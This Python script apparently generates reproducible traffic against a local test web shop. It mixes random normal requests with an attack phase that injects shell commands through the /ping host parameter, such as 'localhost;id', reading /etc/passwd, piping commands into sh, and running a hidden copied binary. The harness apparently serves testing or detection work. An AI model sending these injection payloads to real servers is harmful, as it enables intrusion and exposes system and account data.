"""Sends requests to the shop: `client.py PORT SEED NORMAL [attack NORMAL]`.

With a seed, the same requests in the same order. `attack` sends the injected commands between two runs of normal requests.
"""

import http.client
import random
import sys
import time
import urllib.parse

PORT = int(sys.argv[1])
CHOICE = random.Random(int(sys.argv[2]))

# What the attacker types: first a look around, then a shell that runs a few commands of its own.
ATTACK = [
    "localhost;id",
    "localhost;uname -a",
    "localhost;cat /etc/passwd",
    "localhost;ls -la /usr",
    "localhost;printf 'id\\nls -la .\\ncat /proc/self/status\\nfind . -type f\\nwc -c /etc/os-release\\nexit\\n' | sh",
    "localhost;cp /bin/ls .upload.bin; ./.upload.bin /usr >.loot; wc -c .loot; rm -f .upload.bin .loot",
]


def request(method, path, body=None):
    connection = http.client.HTTPConnection("127.0.0.1", PORT, timeout=30)
    connection.request(method, path, body=body)
    connection.getresponse().read()
    connection.close()


def normal():
    dice = CHOICE.random()
    if dice < 0.35:
        request("GET", "/")
    elif dice < 0.65:
        request("GET", f"/files/item-{CHOICE.randrange(24)}.txt")
    elif dice < 0.78:
        request("GET", "/list")
    elif dice < 0.86:
        request("POST", f"/upload/{CHOICE.randrange(8)}", CHOICE.randbytes(CHOICE.randrange(50, 4000)))
    elif dice < 0.92:
        request("GET", f"/missing-{CHOICE.randrange(100)}")
    else:
        request("GET", "/ping?host=" + CHOICE.choice(["localhost", "127.0.0.1", "ip6-localhost", "shop"]))
    time.sleep(CHOICE.expovariate(1 / 0.01))


for _ in range(int(sys.argv[3])):
    normal()
if sys.argv[4:5] == ["attack"]:
    for command in ATTACK:
        request("GET", "/ping?host=" + urllib.parse.quote(command))
        time.sleep(0.2)
    for _ in range(int(sys.argv[5])):
        normal()
